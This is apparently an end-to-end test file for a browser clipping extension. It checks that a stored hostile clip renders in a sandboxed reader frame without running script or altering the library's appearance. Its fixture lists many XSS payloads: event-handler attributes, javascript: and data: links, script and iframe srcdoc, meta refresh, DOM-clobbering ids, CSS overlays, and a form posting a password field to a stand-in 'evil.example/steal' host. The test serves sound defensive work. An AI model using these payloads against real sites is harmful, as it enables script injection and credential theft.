/**
 * A hostile clip in the library (reliability.md S1–S10): a record stored raw, as if the first
 * wall (sanitizing at extraction) had been bypassed, with handlers, javascript: links, styles,
 * forms, clobbering ids, frames and scripts in its body and markup in its metadata. It must
 * render without running anything (no dialog, no extension APIs in the frame) and without
 * changing how the library looks.
 */
import { READER_SANDBOX } from '../../utils/reader-frame';
import { expect, test } from './fixtures';
import { LibraryPage, clipWith, seed } from './support/library-page';

const HOSTILE_HTML = [
  '<p id="app">Clobber the app root.</p>',
  '<form id="clip-list" name="search" action="https://evil.example/steal"><input name="password" value="x"><button formaction="javascript:alert(\'formaction\')">Log in</button></form>',
  '<img src="x" onerror="alert(\'onerror\')" name="browser">',
  '<a href="javascript:alert(\'js-link\')">javascript link</a>',
  '<a href=" JavaScript:alert(\'spaced\')">spaced link</a>',
  '<a href="data:text/html,&lt;script&gt;alert(\'data\')&lt;/script&gt;">data link</a>',
  '<style>body, .library, .clip-row, .library-header { display: none !important; background: red !important; } * { color: red !important; }</style>',
  '<div style="position:fixed;inset:0;background:red">overlay</div>',
  '<script>alert(\'script\')</script>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(\'iframe\')&lt;/script&gt;"></iframe>',
  '<svg onload="alert(\'svg\')"><circle r="10"></circle></svg>',
  '<details open ontoggle="alert(\'toggle\')"><summary>details</summary>x</details>',
  '<video autoplay src="https://evil.example/v.mp4" onplay="alert(\'video\')"></video>',
  '<object data="javascript:alert(\'object\')"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(\'refresh\')">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/evil.css">',
  '<p>Real text survives: the harbour reopened.</p>',
].join('\n');

const hostile = clipWith({
  id: 'e2e-hostile-0001',
  title: "<img src=x onerror=alert('title')>Hostile headline",
  siteName: "<script>alert('site')</script>",
  authors: ['"><svg onload=alert(1)>'],
  byline: null,
  text: 'Real text survives: the harbour reopened.',
  html: HOSTILE_HTML,
  figures: [{ src: "javascript:alert('figure')", alt: '" onerror="alert(2)', caption: '<b onclick=alert(3)>caption</b>', credit: null }],
  leadImage: "javascript:alert('thumb')",
  tags: ['<b>tag</b>'],
  note: '<img src=x onerror=alert(4)>',
  clippedAt: '2026-11-01T10:00:00Z',
});
const plain = clipWith({ id: 'e2e-plain-00001', title: 'A plain clip', clippedAt: '2026-10-01T10:00:00Z' });

/** Computed styles of the library's own chrome, to compare before and after the clip renders. */
const chromeStyles = (page: import('@playwright/test').Page) =>
  page.evaluate(() => {
    const pick = (sel: string) => {
      const el = document.querySelector(sel);
      if (!el) return null;
      const s = getComputedStyle(el);
      return [s.display, s.color, s.backgroundColor, s.fontFamily, s.fontSize, s.visibility, s.position].join('|');
    };
    return {
      body: pick('body'),
      library: pick('.library'),
      heading: pick('.library-header h1'),
      search: pick('.search-input'),
      row: pick('li.clip-row'),
      title: pick('li.clip-row .row-title'),
      button: pick('.library-actions button'),
      appIsRoot: document.getElementById('app')?.tagName === 'DIV' && document.getElementById('app')?.parentElement === document.body,
      clobbered: typeof (window as unknown as { browser?: unknown }).browser === 'object' && (window as unknown as { browser: unknown }).browser instanceof Element,
    };
  });

test('a hostile clip renders without running anything or changing how the library looks', async ({ clipper, ext }) => {
  await seed(ext, [hostile, plain]);
  const lib = await LibraryPage.open(ext);
  const before = await chromeStyles(lib.page);
  expect(before.appIsRoot).toBe(true);

  // Metadata is text in the list, never markup.
  const row = lib.rows.filter({ hasText: 'Hostile headline' });
  await expect(row.locator('.row-title')).toHaveText("<img src=x onerror=alert('title')>Hostile headline");
  await expect(row.locator('[data-field="site"]')).toHaveText("<script>alert('site')</script>");
  await expect(row.locator('.row-title img, .row-meta script, .row-meta svg')).toHaveCount(0);
  await expect(row.locator('[data-thumb="placeholder"]')).toHaveCount(1);

  await row.locator('.row-title').click();
  const frame = lib.reader;
  await expect(frame.locator('.clip-body')).toContainText('Real text survives: the harbour reopened.');
  await lib.page.waitForTimeout(700);

  expect(lib.dialogs).toEqual([]);
  expect(lib.errors).toEqual([]);
  // No extension APIs and no scripts inside the frame.
  const body = frame.locator('body');
  expect(await body.evaluate(() => typeof (globalThis as { browser?: unknown }).browser)).toBe('undefined');
  expect(await body.evaluate(() => typeof (globalThis as { chrome?: { runtime?: unknown } }).chrome?.runtime)).toBe('undefined');
  const dom = await body.evaluate((b) => {
    const all = [...b.ownerDocument.querySelectorAll('*')];
    return {
      forbidden: all.filter((e) => /^(SCRIPT|STYLE|FORM|INPUT|BUTTON|IFRAME|SVG|OBJECT|EMBED|META|BASE|TEMPLATE)$/i.test(e.tagName) && e.tagName !== 'META').map((e) => e.tagName),
      metas: all.filter((e) => e.tagName === 'META').map((e) => e.getAttribute('http-equiv') ?? e.getAttribute('name') ?? e.getAttribute('charset') ?? '?'),
      links: [...b.ownerDocument.querySelectorAll('link')].map((l) => l.getAttribute('href') ?? ''),
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}[${a.name}]`)),
      styled: all.filter((e) => e.hasAttribute('style')).length,
      badHrefs: [...b.ownerDocument.querySelectorAll('[href], [src], [action], [formaction], [data]')]
        .flatMap((e) => ['href', 'src', 'action', 'formaction', 'data'].map((n) => e.getAttribute(n) ?? ''))
        .filter((v) => /^\s*(javascript|data:text|vbscript)/i.test(v)),
      ids: all.map((e) => e.id).filter(Boolean),
      autoplay: b.ownerDocument.querySelectorAll('[autoplay]').length,
      bodyBackground: getComputedStyle(b).backgroundColor,
      textColor: getComputedStyle(b.querySelector('.clip-body p:last-of-type')!).color,
    };
  });
  expect(dom.forbidden).toEqual([]);
  // Only our own charset and referrer metas, only our own stylesheets (served by the extension).
  expect(dom.metas).toEqual(['utf-8', 'referrer']);
  expect(dom.links).toHaveLength(2);
  for (const href of dom.links) expect(href).toMatch(new RegExp(`^chrome-extension://${ext.extensionId}/`));
  expect(dom.handlers).toEqual([]);
  expect(dom.styled).toBe(0);
  expect(dom.badHrefs).toEqual([]);
  expect(dom.ids).toEqual(['user-content-app']);
  expect(dom.autoplay).toBe(0);
  expect(dom.bodyBackground).not.toBe('rgb(255, 0, 0)');
  expect(dom.textColor).not.toBe('rgb(255, 0, 0)');
  // The hostile caption stays text.
  await expect(frame.locator('.clip-more-figures figcaption')).toHaveText('<b onclick=alert(3)>caption</b>');

  // The library looks exactly as before; its root and globals are not clobbered.
  expect(await chromeStyles(lib.page)).toEqual(before);
  expect(lib.dialogs).toEqual([]);
  expect(lib.cspMessages).toEqual([]);
  await lib.page.close();
  void clipper;
});

test('the sandbox is the second wall: script that skipped the sanitizer does not run in a reader frame (S9)', async ({ clipper, ext }) => {
  const lib = await LibraryPage.open(ext, { waitForText: false });
  // The CSP would block inline script anyway, so the frame loads the library's own module
  // script (allowed by script-src 'self'): only the sandbox stops it from running.
  const script = await lib.page.evaluate(() => document.querySelector<HTMLScriptElement>('script[type="module"]')!.src);
  const addFrame = (cls: string, sandbox: string | null) =>
    lib.page.evaluate(
      ([c, sb, src]) => {
        const frame = document.createElement('iframe');
        frame.className = c;
        if (sb !== null) frame.setAttribute('sandbox', sb);
        frame.srcdoc = `<p id="p">x</p><div id="app"></div><script type="module" src="${src}"></script><img src="x" onerror="document.getElementById('p').textContent='ran'">`;
        document.body.append(frame);
      },
      [cls, sandbox, script] as const,
    );
  await addFrame('bypass-frame', READER_SANDBOX);
  const frame = lib.page.frameLocator('iframe.bypass-frame');
  await expect(frame.locator('#p')).toHaveText('x');
  await lib.page.waitForTimeout(1500);
  await expect(frame.locator('#p')).toHaveText('x');
  expect(await frame.locator('#app').evaluate((app) => app.childElementCount)).toBe(0);
  expect(await frame.locator('#p').evaluate(() => typeof (globalThis as { chrome?: { runtime?: unknown } }).chrome?.runtime)).toBe('undefined');
  // The module never ran: it would have thrown (no extension APIs in a srcdoc frame), as the
  // same frame without the sandbox shows, so this check can fail.
  expect(lib.errors).toEqual([]);
  await addFrame('control-frame', null);
  await expect.poll(() => lib.errors.length, { timeout: 20_000 }).toBeGreaterThan(0);
  expect(lib.dialogs).toEqual([]);
  await lib.page.close();
  void clipper;
});
